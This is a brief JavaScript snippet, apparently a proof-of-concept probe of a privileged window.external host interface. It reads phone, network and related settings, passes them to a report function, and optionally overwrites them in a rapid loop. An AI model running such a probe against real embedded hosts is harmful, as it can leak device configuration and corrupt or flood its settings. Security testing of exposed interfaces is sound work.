// Reports the settings; then, if WRITE, writes new ones as fast as it can, else closes.
var e = window.external, i = 0;
report('settings [' + [e.DTE_GetTEPhone(), e.DTE_GetTENetwork(), e.DTE_GetTEAid(), e.DTE_GetTENVCheck()].join('][') + ']');
if (!WRITE) e.DTE_CloseWindow();
else setInterval(function () {
    for (var k = 0; k < 5; k++, i++) { e.DTE_SetTEPhone('p' + i); e.DTE_SetTENetwork('n' + i); e.DTE_SetTEAid('a' + i); }
    report('wrote ' + i);
}, 1);
